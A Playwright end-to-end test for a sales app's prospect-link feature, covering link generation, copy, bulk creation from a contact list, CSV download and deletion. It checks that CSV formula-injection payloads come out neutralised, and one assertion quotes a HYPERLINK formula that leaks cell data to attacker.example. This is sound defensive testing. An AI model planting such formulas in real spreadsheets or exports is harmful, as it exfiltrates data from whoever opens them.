import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { expect, type Page, test } from '@playwright/test';
import { audienceURL } from './playwright.config.ts';
import { signInAsSeedRep } from './support.ts';

// The shared fixtures sit beside the repository (shared/README.md); never copied into it.
const fixtures = path.resolve(import.meta.dirname, '../../shared/fixtures/contacts');
const pageTitle = 'Sample Q&A page';
const listName = 'E2E bulk links';

/** A headed CSV fixture (name, email, company; no quoted commas) as the rows of a contact bank. */
async function rowsOf(file: string) {
  const [header, ...lines] = (await readFile(path.join(fixtures, file), 'utf8')).split(/\r?\n/);
  const columns = header!.split(',');
  return lines
    .filter((line) => line.trim() !== '')
    .map((line) => {
      const cells = line.split(',');
      return Object.fromEntries(columns.map((column, index) => [column, cells[index] ?? '']));
    });
}

/** The session's cookies, for the few calls a journey makes through the API itself. */
async function session(page: Page) {
  const cookies = await page.context().cookies();
  const value = (name: string) => cookies.find((cookie) => cookie.name === name)?.value ?? '';
  return { token: value('token'), sellerId: value('sellerId'), companyId: value('companyId') };
}

test('prospect links: outbound, copy, inbound, bulk from a contact list, CSV with formulas neutralised, a deleted link dies', async ({
  page,
  context,
}) => {
  test.setTimeout(120_000);
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await signInAsSeedRep(page);
  const { token, sellerId, companyId } = await session(page);

  // A contact list to bulk over: the formula-injection rows (names a spreadsheet would run) and
  // the ragged rows (one without a company: dismissed once company is a placeholder).
  const bank = [...(await rowsOf('formula-injection.csv')), ...(await rowsOf('ragged.csv'))];
  const created = await page.request.post('/web/contact/', {
    headers: { token },
    data: {
      companyId,
      salesRepId: sellerId,
      name: listName,
      contactBank: JSON.stringify({
        headers: ['name', 'email', 'company'],
        bank,
        showHeaders: true,
        identifiers: { name: 'name', email: 'email', company: 'company' },
      }),
      dateCreated: '2026-11-27 14:00:00',
    },
  });
  expect(created.status()).toBe(201);

  // The page list: Share opens the panel of the seeded Q&A page under the table.
  await page.goto('/feature/page/');
  await page.getByRole('button', { name: `Share ${pageTitle}` }).click();
  const panel = page.getByRole('region', { name: `Prospect links for ${pageTitle}` });
  await expect(panel.getByText('Unique links for each prospect who receives this page')).toBeVisible();
  const table = panel.getByRole('table', { name: `Prospect links for ${pageTitle}` });
  await expect(table.getByText('grace@cobol.example')).toBeVisible();

  // Outbound, one recipient: 'Invalid Email Address' first, then the link, and Copy Link.
  await panel.getByRole('button', { name: 'Generate Link' }).click();
  const dialog = page.getByRole('dialog', { name: 'Choose link type' });
  const email = dialog.getByRole('textbox', { name: 'Recipient email' });
  await email.fill('katherine@');
  await dialog.getByRole('button', { name: 'Generate URL' }).click();
  await expect(dialog.getByText('Invalid Email Address')).toBeVisible();
  await email.fill('katherine@nasa.example');
  await dialog.getByRole('textbox', { name: 'Recipient name (optional)' }).fill('Katherine Johnson');
  const placeholders = dialog.getByRole('group', { name: 'Placeholders' }).getByRole('textbox');
  for (const field of await placeholders.all()) await field.fill('NASA');
  await dialog.getByRole('button', { name: 'Generate URL' }).click();
  const outbound = dialog.getByRole('textbox', { name: 'Seller link' });
  await expect(outbound).toHaveValue(new RegExp(`^${audienceURL}/[A-Za-z0-9_-]{22,}/login$`));
  const outboundLink = await outbound.inputValue();
  await dialog.getByRole('button', { name: 'Copy Link' }).click();
  await expect(dialog.getByRole('button', { name: 'Copied' })).toBeVisible();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(outboundLink);
  // The link opens the page for this prospect.
  expect((await page.request.get(outboundLink)).status()).toBe(200);

  // Inbound: the website link with the seller id.
  await dialog.getByRole('radio', { name: 'Inbound' }).click();
  const website = dialog.getByRole('textbox', { name: 'Website link' });
  await expect(website).toHaveValue(new RegExp(`^${audienceURL}/[A-Za-z0-9_-]{22,}/login$`));
  await expect(dialog.getByRole('textbox', { name: 'Seller id' })).toHaveValue(sellerId);

  // Bulk over the contact list: its identifiers fill the fields; one row is dismissed.
  await dialog.getByRole('radio', { name: 'Outbound' }).click();
  await dialog.getByRole('checkbox', { name: 'Bulk generate from a contact list' }).click();
  await dialog.getByRole('combobox', { name: 'Contact list' }).click();
  await page.getByRole('option', { name: listName }).click();
  await expect(dialog.getByRole('textbox', { name: 'Recipient email column' })).toHaveValue('{{email}}');
  await expect(dialog.getByRole('textbox', { name: 'Recipient name column (optional)' })).toHaveValue(
    '{{name}}',
  );
  await dialog.getByRole('button', { name: 'Bulk Generate URLs' }).click();
  const outcome = dialog.getByRole('status').filter({ hasText: 'new links' });
  await expect(outcome).toContainText('4 new links');
  await expect(outcome).toContainText('1 dismissed');
  await expect(outcome).toContainText('Invalid fields detected and dismissed');
  await dialog.getByRole('button', { name: 'Close' }).click();
  await expect(dialog).toBeHidden();

  // The table is read again with the new links; tick the two formula names and download them.
  const row = (text: string) => table.getByRole('row').filter({ hasText: text });
  await expect(row('eve@attacker.example')).toBeVisible();
  await row('eve@attacker.example').getByRole('checkbox').check();
  await row('mallory@attacker.example').getByRole('checkbox').check();
  const downloading = page.waitForEvent('download');
  await panel.getByRole('button', { name: 'Download URLs' }).click();
  const download = await downloading;
  expect(download.suggestedFilename()).toBe(`${pageTitle}.csv`);
  const csv = await readFile((await download.path())!, 'utf8');
  const lines = csv
    .replace(/^\uFEFF/, '')
    .trim()
    .split('\r\n');
  expect(lines[0]).toBe('"Prospect Name","Email address","Date Created","URL"');
  expect(lines).toHaveLength(3);
  // The formula cells start with a quote, so a spreadsheet shows them as text.
  expect(csv).toContain(
    '"\'=HYPERLINK(""http://attacker.example/?leak=""&A1;""click"")","eve@attacker.example"',
  );
  expect(csv).toContain('"\'@SUM(1+1)","mallory@attacker.example"');
  for (const line of lines.slice(1))
    expect(line).toMatch(new RegExp(`"${audienceURL}/[A-Za-z0-9_-]{22,}/login"$`));

  // Delete the outbound link: its row goes, and its address answers as a dead link.
  await row('katherine@nasa.example')
    .getByRole('button', { name: /^Delete the link for/ })
    .click();
  const confirm = page.getByRole('alertdialog', { name: 'Delete this link?' });
  await confirm.getByRole('button', { name: 'Delete' }).click();
  await expect(confirm).toBeHidden();
  await expect(row('katherine@nasa.example')).toHaveCount(0);
  expect((await page.request.get(outboundLink)).status()).toBe(404);
});
